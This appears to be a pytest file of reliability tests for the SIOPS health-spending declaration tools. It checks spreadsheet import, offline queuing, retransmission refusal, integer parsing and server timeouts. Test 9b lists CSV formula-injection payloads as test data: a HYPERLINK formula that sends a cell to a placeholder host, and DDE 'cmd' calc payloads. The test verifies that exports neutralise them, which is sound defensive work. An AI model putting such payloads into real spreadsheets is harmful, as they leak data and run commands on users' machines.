"""Issue 17, items 8 and 9 (the client and transmitter side), against the real programs.

* 8 — an ``.xlsx`` balancete whose ``<dimension>`` claims ``A1:XFD1048576`` (and whose last
  real row is far below the data) is read by its real extent: ``siops importar-contabil``
  answers in seconds with the right preview;
* 9a — ``siopsnet transmitir`` to a server that does not answer exits 3 *and* the signed file is
  in the queue; ``siopsnet fila --enviar`` sends it once the real server is up;
* 9b — text fields beginning with ``=``, ``+``, ``-``, ``@`` are exported neutralised (a leading
  apostrophe) and our own export imports back to the same texts;
* 9c — retransmitting a superseded file is refused (409 ``transmissao_substituida``, exit 1) with
  the server's message naming the protocol that replaced it, never "já tinha chegado";
* 9d — every integer argument of ``siops``, ``siopsnet`` and ``siops-servidor`` takes ASCII
  digits only, within its range (``٢٠٢٥``, ``1_000``, ``²`` → exit 2 with the reason);
* 9e — a server that accepts and never answers costs at most the operation's time budget
  (``--prazo``), then the file is queued (exit 3).
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import socket
import threading
import time
import zipfile
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import pytest
from apoio_comum import rodar_cli
from apoio_servidor import EXERCICIO

pytestmark = pytest.mark.reliability

ENTE_9A = "M320530"  # Vitória/ES
ENTE_9C = "M221100"  # Teresina/PI


# --- helpers ----------------------------------------------------------------------------------


def _copia(pasta: Path, ente: str, bimestre: int, centavos: int = 0) -> Path:
    """A transmission copy (``…/transm/<nome>.OPS``) of the demo declaration of ``ente``."""
    from decimal import Decimal

    from siops.criticas import verificar
    from siops.forms.declaracao import DefinirCelula
    from siops.forms.demo import declaracao_demo
    from siops.ops_format import caminhos, gravar_transmissao

    d = declaracao_demo(ente, EXERCICIO, bimestre)
    if centavos:
        chave = next(k for k, _ in d.celulas_digitadas() if k[2] == "previsao_inicial")
        d.aplicar(DefinirCelula(chave, d.valor(chave) + Decimal(centavos) / 100))
    ops = pasta / caminhos.nome_arquivo(d.ente, d.exercicio, d.bimestre)
    return gravar_transmissao(d, ops, verificar(d))


def _pfx(pessoa, pasta: Path) -> Path:
    from siops.transmissor import icp_teste

    e = pessoa.emitido
    return icp_teste.gravar_pfx(
        pasta / f"{pessoa.cpf}.pfx", e.chave, e.cert, e.cadeia, senha="senha-do-pfx"
    )


def _siopsnet(*args: object, teto: float = 25.0) -> tuple[int, str, str, float]:
    """``siopsnet ARGS`` in this process (``transmissor.cli.executar``), output captured."""
    from apoio_comum import limite_de_tempo

    from siops.transmissor.cli import executar

    out, err = io.StringIO(), io.StringIO()
    t0 = time.perf_counter()
    with (
        limite_de_tempo(teto),
        contextlib.redirect_stdout(out),
        contextlib.redirect_stderr(err),
    ):
        try:
            codigo = executar([str(a) for a in args])
        except SystemExit as exc:  # argparse
            codigo = exc.code if isinstance(exc.code, int) else 2
    return int(codigo), out.getvalue(), err.getvalue(), time.perf_counter() - t0


@pytest.fixture
def transmissor_isolado(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, pki) -> Path:
    """The transmitter's data folder (settings, queue, receipt anchors) in ``tmp_path``, its
    settings trusting the test root (elsewhere the official ICP-Brasil roots, issue 21)."""
    from siops.transmissor.config import Configuracoes

    pasta = tmp_path / "transmissor"
    pasta.mkdir(parents=True, exist_ok=True)
    Configuracoes(raizes_icp=[str(pki.raiz_pem)]).salvar(pasta)
    monkeypatch.setenv("SIOPS_TRANSMISSOR_DADOS", str(pasta))
    monkeypatch.setenv("SIOPS_SENHA_PFX", "senha-do-pfx")
    return pasta


# --- item 8: the spreadsheet's real extent ----------------------------------------------------


def _xlsx_com_dimensao(caminho: Path, dimensao: str, extra: str = "") -> Path:
    """A normal receita balancete written by openpyxl, whose ``<dimension ref>`` is then
    replaced by ``dimensao``; ``extra`` (sheet XML rows) is appended to ``<sheetData>``."""
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Receitas"
    for linha in (
        ["Balancete da receita"],
        ["Natureza da Receita", "Especificação", "Previsão Atualizada", "Receita Realizada"],
        ["1.1.1.2.53.0.1", "ITBI", 120000.5, 99999.99],
        ["1.1.1.3.03.1.1", "IRRF", 50000, 45000.1],
    ):
        ws.append(linha)
    normal = caminho.with_name(caminho.stem + "-normal.xlsx")
    wb.save(normal)
    with zipfile.ZipFile(normal) as zi, zipfile.ZipFile(caminho, "w", zipfile.ZIP_DEFLATED) as zo:
        for info in zi.infolist():
            dados = zi.read(info.filename)
            if info.filename.startswith("xl/worksheets/sheet"):
                dados, n = re.subn(
                    rb'<dimension ref="[^"]*"', f'<dimension ref="{dimensao}"'.encode(), dados
                )
                assert n == 1
                dados = dados.replace(b"</sheetData>", extra.encode() + b"</sheetData>")
            zo.writestr(info, dados)
    return caminho


def test_i17_8_planilha_com_extensao_declarada_falsa(tmp_path, monkeypatch, relatorio):
    from decimal import Decimal

    from siops import ops_format
    from siops.forms.declaracao import Declaracao
    from siops.forms.entes import ente

    monkeypatch.setenv("SIOPS_BALANCETE_COLUNAS", str(tmp_path / "colunas.json"))
    ops = tmp_path / "M355030_2025_SegundoBimestre.OPS"
    ops_format.salvar(Declaracao(ente("M355030"), 2025, 2), ops)
    ultima = 1048576
    casos = {
        # the claim alone, with a real last row at the bottom of the sheet (a "total" far below)
        "dimensao_XFD1048576_ultima_linha_A": (
            "A1:XFD1048576",
            f'<row r="{ultima}"><c r="A{ultima}" t="inlineStr"><is><t>fim</t></is></c></row>',
        ),
        # a real cell at the far corner (XFD1048576), the claim matching it
        "celula_real_em_XFD1048576": (
            "A1:XFD1048576",
            f'<row r="{ultima}"><c r="XFD{ultima}" t="inlineStr"><is><t>x</t></is></c></row>',
        ),
        # a huge row count claimed (columns honest), rows far apart
        "linhas_declaradas_1048576": (
            "A1:D1048576",
            '<row r="500000"><c r="B500000" t="inlineStr"><is><t>nota</t></is></c></row>'
            f'<row r="{ultima}"><c r="A{ultima}" t="inlineStr"><is><t>fim</t></is></c></row>',
        ),
    }
    tempos = {}
    for nome, (dimensao, extra) in casos.items():
        xlsx = _xlsx_com_dimensao(tmp_path / f"{nome}.xlsx", dimensao, extra)
        assert xlsx.stat().st_size < 10_000
        r = rodar_cli("importar-contabil", ops, xlsx, "--json", teto=20)
        assert r.codigo == 0, (nome, r.stderr)
        assert r.segundos < 5, (nome, r.segundos)
        tempos[nome] = round(r.segundos, 2)
        doc = json.loads(r.stdout)
        mudancas = {
            (m["linha"], m["coluna"]): Decimal(m["novo"])
            for t in doc["tabelas"]
            for m in t["mudancas"]
        }
        assert mudancas[("itbi", "realizada")] == Decimal("99999.99"), nome
        assert mudancas[("itbi", "previsao_atualizada")] == Decimal("120000.50"), nome
        assert mudancas[("irrf", "realizada")] == Decimal("45000.10"), nome
        total = {c["medida"]: Decimal(c["fonte"]) for c in doc["conciliacao"]}
        assert total["realizada"] == Decimal("145000.09"), nome
    relatorio(
        casos=len(casos),
        segundos=tempos,
        resumo="planilhas .xlsx de < 10 kB que declaram A1:XFD1048576 (ou 1.048.576 linhas) e "
        "têm a última linha real no fim da folha: siops importar-contabil lê a extensão real e "
        f"responde em {str(max(tempos.values())).replace('.', ',')} s no máximo, com a prévia certa (ITBI 99.999,99; "
        "IRRF 45.000,10)",
    )


# --- item 9a: exit 3 means the file is in the queue -------------------------------------------


def test_i17_9a_sem_rede_no_login_o_arquivo_fica_na_fila(
    fabrica_servidor, pki, tmp_path, transmissor_isolado, monkeypatch, relatorio
):
    s = fabrica_servidor()
    s.iniciar()
    tec = pki.pessoa("i17-9a-tec", "Técnica de Vitória")
    senha = s.registrar_cadeia(ENTE_9A, pki.pessoa("i17-9a-chefe"), pki.pessoa("i17-9a-sec"), tec)
    monkeypatch.setenv("SIOPS_SENHA", senha)
    copia = _copia(tmp_path / "B1", ENTE_9A, 1)
    pfx = _pfx(tec, tmp_path)
    s.parar()  # the port is closed now: the login itself cannot reach the server
    base = ["--servidor", s.url, "--cpf", tec.cpf, "--a1", pfx, "--tentativas", "2"]
    codigo, _out, err, _seg = _siopsnet("transmitir", copia, *base)
    assert codigo == 3, err
    assert "fila" in err
    codigo, out, err, _seg = _siopsnet("fila", "--json")
    assert codigo == 0, err
    itens = json.loads(out)
    assert [i["arquivo"] for i in itens] == [str(copia.resolve())], itens
    assert itens[0]["servidor"] == s.url and itens[0]["cpf"] == tec.cpf
    # the queue holds the SIGNED copy: sending it needs no certificate, only the login
    s.iniciar()
    codigo, _out, err, _seg = _siopsnet("fila", "--enviar", "--servidor", s.url, "--cpf", tec.cpf)
    assert codigo == 0, err
    assert "protocolo" in err
    codigo, out, _err, _seg = _siopsnet("fila", "--json")
    assert json.loads(out) == []
    assert s.consultar("SELECT count(*) FROM transmissoes WHERE ente=?", ENTE_9A) == [(1,)]
    relatorio(
        casos=1,
        resumo="siopsnet transmitir com o servidor fora do ar já no login: saída 3 e a cópia "
        "assinada na fila (siopsnet fila a lista); com o servidor de volta, siopsnet fila "
        "--enviar entra, envia e recebe o protocolo; a fila fica vazia",
    )


# --- item 9b: formula injection in the CSV interchange ----------------------------------------

TEXTOS_PERIGOSOS = {
    "chefe_cargo": '=HYPERLINK("http://exemplo.invalid/?d="&A1;"Clique")',
    "secretario_cargo": "+cmd|' /C calc'!A0",
    "contador_cargo": "-2+3+cmd|' /C calc'!A0",
    "responsavel_cargo": "@SUM(1+1)*cmd|' /C calc'!A0",
    "fundo_lei": "'=já começava com apóstrofo",
    "conselho_lei": "''+dois apóstrofos",
    "instituicao_1_natureza": "'texto com apóstrofo comum",
    "instituicao_2_natureza": "Fundo - Administração indireta",
}
GATILHOS = ("=", "+", "-", "@", "\t", "\r")


def test_i17_9b_csv_neutraliza_formulas_e_volta_igual(tmp_path, monkeypatch, relatorio):
    from siops import ops_format
    from siops.forms.declaracao import DefinirTexto
    from siops.forms.demo import declaracao_demo

    monkeypatch.setenv("SIOPS_HOME", str(tmp_path / "MS-SIOPS"))
    ops = tmp_path / "M355030_2025_PrimeiroBimestre.OPS"
    ops_format.salvar(declaracao_demo("M355030", EXERCICIO, 1), ops)
    entrada = tmp_path / "entrada.csv"
    with entrada.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f, delimiter=";", lineterminator="\n")
        w.writerow(("tabela", "linha", "coluna", "valor"))
        for campo, texto in TEXTOS_PERIGOSOS.items():
            w.writerow(("campo", campo, "", texto))
    r = rodar_cli("importar-planilha", ops, entrada)
    assert r.codigo == 0, r.stderr
    d = ops_format.ler(ops)
    for campo, texto in TEXTOS_PERIGOSOS.items():
        if not texto.startswith("'"):  # an outside CSV's formula text is data, kept as typed
            assert d.texto(campo) == texto, campo
    # texts that already begin with apostrophes, as typed in the window (the model's command)
    for campo, texto in TEXTOS_PERIGOSOS.items():
        d.aplicar(DefinirTexto(campo, texto, "digitado"))
    ops_format.salvar(d, ops)

    saida = tmp_path / "exportado.csv"
    r = rodar_cli("exportar", ops, "--formato", "csv", "-o", saida)
    assert r.codigo == 0, r.stderr
    linhas = list(csv.reader(io.StringIO(saida.read_text(encoding="utf-8")), delimiter=";"))
    textos = [lin for lin in linhas[1:] if lin[0] == "campo"]
    valores = [lin for lin in linhas[1:] if lin[0] not in ("campo", "razao")]
    razao = [lin for lin in linhas[1:] if lin[0] == "razao"]  # the ledger (issue 19)
    assert razao and all(re.fullmatch(r"-?\d+(\.\d+)?|", lin[-1]) for lin in razao), razao[:3]
    perigosas = [lin for lin in textos if lin[3].startswith(GATILHOS)]
    assert not perigosas, perigosas
    por_campo = {lin[1]: lin[3] for lin in textos}
    assert por_campo["chefe_cargo"] == "'" + TEXTOS_PERIGOSOS["chefe_cargo"]
    assert por_campo["instituicao_1_natureza"] == TEXTOS_PERIGOSOS["instituicao_1_natureza"]
    # numbers are not text: plain decimal text, never an apostrophe
    assert valores and all(re.fullmatch(r"-?\d+(\.\d+)?", lin[3]) for lin in valores), valores[:3]
    # every cell line is the declaration's value: the typed ones and the Anexo 12's computed
    # from the ledger, which the CSV carries as the report shows them
    assert all(Decimal(v) == d.valor((t, linha, c)) for t, linha, c, v in valores)
    assert {k for k, _ in _celulas(d)} <= {(t, linha, c) for t, linha, c, _ in valores}

    # our own export imports back to the very same texts (the apostrophe we added is removed)
    outra = tmp_path / "outra" / ops.name
    outra.parent.mkdir()
    ops_format.salvar(declaracao_demo("M355030", EXERCICIO, 1), outra)  # the demo's texts
    r = rodar_cli("importar-planilha", outra, saida)
    assert r.codigo == 0, r.stderr
    de_volta = ops_format.ler(outra)
    for campo, texto in TEXTOS_PERIGOSOS.items():
        assert de_volta.texto(campo) == texto, campo
    assert dict(_celulas(de_volta)) == dict(_celulas(d))
    relatorio(
        casos=len(TEXTOS_PERIGOSOS),
        resumo=f"{len(TEXTOS_PERIGOSOS)} textos (=, +, -, @, apóstrofos) importados por "
        "importar-planilha; exportar --formato csv não tem campo de texto começando por "
        "= + - @ TAB CR (prefixo ') e os números saem iguais; o CSV exportado importa de volta "
        "os mesmos textos e valores",
    )


def _celulas(d) -> Iterator[tuple[tuple[str, str, str], str]]:
    from siops.forms.dinheiro import texto_plano

    for k, v in d.celulas_digitadas():
        yield k, texto_plano(v)


# --- item 9c: a superseded file sent again ----------------------------------------------------


def test_i17_9c_retransmitir_arquivo_substituido_sai_1_com_a_mensagem(
    servidor_modulo, pki, tmp_path, transmissor_isolado, monkeypatch, relatorio
):
    s = servidor_modulo
    tec = pki.pessoa("i17-9c-tec", "Técnica de Teresina")
    senha = s.registrar_cadeia(ENTE_9C, pki.pessoa("i17-9c-chefe"), pki.pessoa("i17-9c-sec"), tec)
    monkeypatch.setenv("SIOPS_SENHA", senha)
    pfx = _pfx(tec, tmp_path)
    base = ["--servidor", s.url, "--cpf", tec.cpf, "--a1", pfx, "--json"]
    primeira = _copia(tmp_path / "primeira", ENTE_9C, 2)
    segunda = _copia(tmp_path / "segunda", ENTE_9C, 2, centavos=7)
    codigo, out, err, _ = _siopsnet("transmitir", primeira, *base)
    assert codigo == 0, err
    p1 = json.loads(out)[0]["protocolo"]
    codigo, out, err, _ = _siopsnet("transmitir", segunda, *base)
    assert codigo == 0, err
    p2 = json.loads(out)[0]["protocolo"]
    assert p1 != p2
    # the first file again (the same signed bytes): it was superseded by the second one
    codigo, out, err, _ = _siopsnet("transmitir", primeira, *base)
    assert codigo == 1, (codigo, err)
    assert "já tinha chegado" not in err
    assert p2 in err, err
    res = json.loads(out)[0]
    assert res["estado"] == "recusado" and res["codigo_recusa"] == "transmissao_substituida"
    # the copy's local state says so too (the window's list), with its own protocol
    from siops.transmissor.operacoes import estado_arquivo

    estado = estado_arquivo(primeira)
    assert "substituída" in estado.texto and p1 in estado.texto, estado
    relatorio(
        casos=1,
        resumo="a cópia de um período já substituída, transmitida de novo: o servidor recusa "
        "(409 transmissao_substituida) e siopsnet sai 1 com a mensagem que nomeia o protocolo "
        "que a substituiu, sem «já tinha chegado»",
    )


# --- item 9d: integers on the command lines ---------------------------------------------------


def _servidor_parse(*args: str) -> tuple[int, str]:
    """The ``siops-servidor`` parsers (the server itself is never started here)."""
    from siops.servidor import cli

    err = io.StringIO()
    with contextlib.redirect_stderr(err):
        try:
            if args and args[0] == "admin":
                cli._parser_admin().parse_args(list(args[1:]))
            else:
                cli._parser_servidor().parse_args(list(args))
        except SystemExit as exc:
            return int(exc.code or 0), err.getvalue()
    return 0, err.getvalue()


RUINS = ("٢٠٢٥", "2_025", "２０２５", "2025²", " 2025", "+2025", "99999999999999999999999")


def test_i17_9d_inteiros_das_linhas_de_comando(tmp_path, transmissor_isolado, relatorio):
    casos = 0
    motivo = re.compile(r"algarismos de 0 a 9|deve estar entre|número inteiro")

    def conferir(codigo: int, err: str, caso: str) -> None:
        nonlocal casos
        casos += 1
        assert codigo == 2, (caso, codigo, err)
        assert motivo.search(err), (caso, err)
        assert "Traceback" not in err, caso

    for ruim in RUINS:
        destino = tmp_path / f"novo-{casos}.OPS"
        r = rodar_cli(
            "novo", "--ente", "M355030", "--exercicio", ruim, "--bimestre", "1", "-o", destino
        )
        conferir(r.codigo, r.stderr, f"siops novo --exercicio {ruim!r}")
        assert not destino.exists()
        r = rodar_cli("catalogo", "--exercicio", ruim)
        conferir(r.codigo, r.stderr, f"siops catalogo --exercicio {ruim!r}")
        codigo, _o, err, _s = _siopsnet(
            "situacao", "--ente", "M355030", "--exercicio", ruim, "--servidor", "http://127.0.0.1:9"
        )
        conferir(codigo, err, f"siopsnet situacao --exercicio {ruim!r}")
        codigo, err = _servidor_parse(
            "admin", "--dados", str(tmp_path), "registrar-entrega-externa", "--ente", "M355030",
            "--exercicio", ruim, "--bimestre", "1",
        )  # fmt: skip
        conferir(codigo, err, f"admin registrar-entrega-externa --exercicio {ruim!r}")
    for ruim in ("٣", "1_0", "0", "7", "³"):
        r = rodar_cli(
            "novo", "--ente", "M355030", "--exercicio", "2025", "--bimestre", ruim,
            "-o", tmp_path / "b.OPS",
        )  # fmt: skip
        conferir(r.codigo, r.stderr, f"siops novo --bimestre {ruim!r}")
        codigo, err = _servidor_parse(
            "admin", "--dados", str(tmp_path), "registrar-entrega-externa", "--ente", "M355030",
            "--exercicio", "2025", "--bimestre", ruim,
        )  # fmt: skip
        conferir(codigo, err, f"admin --bimestre {ruim!r}")
    for ruim in ("٨٤٧٠", "8_470", "70000", "-1"):
        codigo, err = _servidor_parse("--dados", str(tmp_path), "--porta", ruim)
        conferir(codigo, err, f"siops-servidor --porta {ruim!r}")
        codigo, err = _servidor_parse("--dados", str(tmp_path), "--smtp-porta", ruim)
        conferir(codigo, err, f"siops-servidor --smtp-porta {ruim!r}")
    for ruim in ("١", "1_0", "99999999999999999999999"):
        codigo, err = _servidor_parse(
            "admin", "--dados", str(tmp_path), "autorizar-retransmissao", ruim
        )
        conferir(codigo, err, f"admin autorizar-retransmissao {ruim!r}")
    for ruim in ("٣", "1_0", "0"):
        codigo, _o, err, _s = _siopsnet(
            "fila", "--enviar", "--servidor", "http://127.0.0.1:9", "--tentativas", ruim
        )
        conferir(codigo, err, f"siopsnet --tentativas {ruim!r}")
    # the good values still work
    r = rodar_cli(
        "novo", "--ente", "M355030", "--exercicio", "2025", "--bimestre", "6",
        "-o", tmp_path / "bom.OPS",
    )  # fmt: skip
    assert r.codigo == 0, r.stderr
    assert _servidor_parse("--dados", str(tmp_path), "--porta", "8470")[0] == 0
    relatorio(
        casos=casos,
        resumo=f"{casos} inteiros de fora (algarismos de outras escritas, _, sinais, espaços, "
        "sobrescritos, números enormes, fora do intervalo) em siops novo/catalogo, siopsnet "
        "situacao/--tentativas e siops-servidor --porta/admin: saída 2 com o motivo em "
        "português, nada criado",
    )


# --- item 9e: a server that never answers -----------------------------------------------------


class _Mudo:
    """A TCP server on loopback that accepts every connection and never answers."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.porta = self.sock.getsockname()[1]
        self.conexoes: list[socket.socket] = []
        self._fim = threading.Event()
        self.sock.settimeout(0.2)
        self._t = threading.Thread(target=self._aceitar, daemon=True)
        self._t.start()

    def _aceitar(self) -> None:
        while not self._fim.is_set():
            try:
                c, _ = self.sock.accept()
            except OSError:
                continue
            self.conexoes.append(c)  # held open, never read, never answered

    def fechar(self) -> None:
        self._fim.set()
        self._t.join(5)
        for c in self.conexoes:
            c.close()
        self.sock.close()


def test_i17_9e_servidor_mudo_respeita_o_prazo_total(
    pki, tmp_path, transmissor_isolado, monkeypatch, relatorio
):
    tec = pki.pessoa("i17-9e-tec", "Técnica Paciente")
    monkeypatch.setenv("SIOPS_SENHA", "qualquer-senha")
    copia = _copia(tmp_path / "B3", "M355030", 3)
    pfx = _pfx(tec, tmp_path)
    mudo = _Mudo()
    prazo = 3
    try:
        url = f"http://127.0.0.1:{mudo.porta}"
        codigo, _out, err, segundos = _siopsnet(
            "transmitir", copia, "--servidor", url, "--cpf", tec.cpf, "--a1", pfx,
            "--tentativas", "5", "--prazo", str(prazo),
        )  # fmt: skip
    finally:
        mudo.fechar()
    assert codigo == 3, err
    assert segundos < prazo + 6, segundos
    assert "demorou demais" in err and f"{prazo} s" in err, err
    codigo, out, _err, _s = _siopsnet("fila", "--json")
    itens = json.loads(out)
    assert [i["arquivo"] for i in itens] == [str(copia.resolve())]
    # the default budget is bounded too (≤ 2 minutes), whatever the number of tries
    from siops.transmissor.cliente import ConfigRede

    assert ConfigRede(servidor=url).prazo_total <= 120
    relatorio(
        casos=1,
        segundos=round(segundos, 1),
        conexoes=len(mudo.conexoes),
        resumo=f"servidor que aceita e nunca responde, 5 tentativas e --prazo {prazo}: "
        f"siopsnet transmitir volta em {f'{segundos:.1f}'.replace('.', ',')} s com saída 3, a mensagem diz o prazo e a "
        "cópia assinada fica na fila (prazo padrão ≤ 2 min)",
    )
